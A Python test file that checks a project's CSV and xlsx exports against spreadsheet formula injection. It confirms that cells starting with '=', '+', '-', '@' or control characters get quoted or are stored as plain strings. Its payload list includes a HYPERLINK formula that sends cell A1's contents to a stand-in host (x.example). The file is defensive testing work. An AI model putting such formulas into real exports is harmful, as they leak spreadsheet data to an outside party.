"""The formula guard of every export (core/exports): CSV cells quoted, xlsx cells strings."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

from python_calamine import CalamineWorkbook

from fupin.core import exports

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"点击")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def test_csv_cells_starting_a_formula_are_quoted_and_numbers_are_not() -> None:
    out = io.StringIO()
    writer = exports.csv_writer(out, lineterminator="\r\n")
    writer.writerow([*PAYLOADS, -5, 1.5, "张三", "a=b", ""])
    row = next(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert row[: len(PAYLOADS)] == ["'" + p for p in PAYLOADS]
    assert row[len(PAYLOADS) :] == ["-5", "1.5", "张三", "a=b", ""]
    assert [exports.unquote_cell(c) for c in row[: len(PAYLOADS)]] == PAYLOADS
    assert exports.unquote_cell("'quoted") == "'quoted"


def test_xlsx_strings_are_never_formulas(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    book = exports.workbook(str(path))
    sheet = book.add_worksheet("s")
    sheet.write_row(0, 0, [*PAYLOADS, -5])
    book.close()
    with zipfile.ZipFile(path) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    row = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("s").to_python()[0]
    assert row[: len(PAYLOADS)] == PAYLOADS and row[-1] == -5
